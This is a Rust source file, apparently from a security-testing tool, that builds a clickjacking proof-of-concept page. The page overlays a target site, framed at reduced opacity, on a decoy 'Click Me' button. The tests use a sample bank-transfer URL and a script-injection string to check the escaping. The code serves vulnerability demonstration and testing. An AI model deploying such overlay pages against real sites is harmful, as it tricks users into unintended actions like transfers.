// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Proof-of-concept overlay page

/// Escape text for an HTML attribute or body
pub fn escape_html(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Standalone page that frames `url` at 40% opacity under a decoy button.
/// Opening it in a browser shows what an attacker overlay would look like.
pub fn poc_html(url: &str) -> String {
    let url = escape_html(url);
    format!(
        r#"<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Clickjacking PoC - {url}</title>
<style>
  body {{ margin: 0; font-family: sans-serif; }}
  .stage {{ position: relative; width: 800px; height: 600px; }}
  .stage iframe {{ position: absolute; inset: 0; width: 100%; height: 100%; opacity: 0.4; z-index: 2; border: 0; }}
  .decoy {{ position: absolute; top: 280px; left: 340px; z-index: 1; padding: 12px 24px; font-size: 18px; }}
</style>
</head>
<body>
<div class="stage">
  <button class="decoy">Click Me</button>
  <iframe src="{url}"></iframe>
</div>
</body>
</html>
"#
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_poc_frames_target() {
        let html = poc_html("https://bank.test/transfer");
        assert!(html.contains(r#"<iframe src="https://bank.test/transfer">"#));
        assert!(html.contains("opacity: 0.4"));
        assert!(html.contains("Click Me"));
    }

    #[test]
    fn test_poc_escapes_url() {
        let html = poc_html(r#"https://x.test/?a=1&b="><script>"#);
        assert!(!html.contains("<script>"));
        assert!(html.contains("a=1&amp;b=&quot;&gt;&lt;script&gt;"));
    }
}
